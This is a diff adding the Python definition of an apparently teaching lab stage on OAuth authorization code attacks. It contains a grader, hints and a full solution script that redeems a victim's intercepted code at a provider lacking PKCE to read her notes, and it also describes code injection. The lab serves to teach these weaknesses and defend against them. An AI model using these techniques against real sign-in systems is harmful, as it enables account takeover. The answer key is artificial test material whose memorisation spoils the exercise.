@@ -1,0 +1,76 @@
+"""03 · The authorization code flow: its target."""
+
+from typing import Any
+
+from labutils.classroom.judging import (
+    value,
+)
+from labutils.classroom.registry import (
+    Target,
+    code,
+)
+
+from . import missing_defences as stage
+
+
+def flag_mistake(answer: Any) -> str | None:
+    if answer == stage.FLAG:
+        return None
+    if isinstance(answer, dict | list) or hasattr(answer, "json"):
+        return "response"
+    return "token" if isinstance(answer, str) and answer.count(".") == 2 else "other"
+
+
+TARGET = Target(
+    "03-target",
+    "value",
+    value(flag_mistake),
+    "The provider ignores PKCE: whoever has the code is in. Look for a second way, code injection: "
+    "put Ada's code into a sign-in that Tom's browser began at the diary (RFC 9700, 4.5).",
+    {
+        "other": (
+            "That is not the flag. It is the first of Ada's notes.",
+            "answer = 'flag-0000'",
+        ),
+        "token": (
+            "That is a token. Read Ada's notes with it: GET https://api.example/notes.",
+            "answer = 'a.b.c'",
+        ),
+        "response": (
+            "That is more than the flag. The flag is the first of Ada's notes.",
+            "answer = {'owner': 'u-1815', 'notes': []}",
+        ),
+    },
+    (
+        "You have four attacks. Try each: does Ada's browser end in Tom's account, does a code "
+        "arrive at tom.test, what becomes of Ada's answer in Tom's browser, does a code that Tom "
+        "reads open anything?",
+        "A client can send code_challenge to a provider that does not know PKCE. What does "
+        "https://login.example/.well-known/openid-configuration say of "
+        "code_challenge_methods_supported?",
+        "Take the code from parameters(scene.ada_signs_in()), and post it to /token as the client "
+        "diary. Or open https://diary.example/login with scene.tom, keep the state, and open "
+        "/cb?code=...&state=... with Ada's code in the place of his.",
+    ),
+    code("""
+        seen = parameters(scene.ada_signs_in())
+        asked = {
+            "grant_type": "authorization_code",
+            "client_id": "diary",
+            "code": seen["code"],
+            "redirect_uri": "https://diary.example/cb",
+        }
+        tokens = scene.tom.post(LOGIN + "/token", data=asked).json()
+        notes = api_request(scene.tom, tokens["access_token"]).json()["notes"]
+        flag = notes[0]
+    """),
+    brief=(
+        "https://diary.example is another client of login.example: client ID diary, redirect URI "
+        "https://diary.example/cb, scope notes, paths /login, /cb and /. PKCE, state, the session, "
+        "exact redirect matching: one of the four is missing, and nobody says which. scene.tom is "
+        "Tom's browser. scene.ada_signs_in() lets Ada sign in, and gives the redirect that Tom "
+        "reads before the diary does. scene.ada_opens(url) lets Ada open a link, and gives the "
+        "addresses that then arrive below tom.test. The flag is the first of Ada's notes."
+    ),
+    scene=stage.diary,
+)
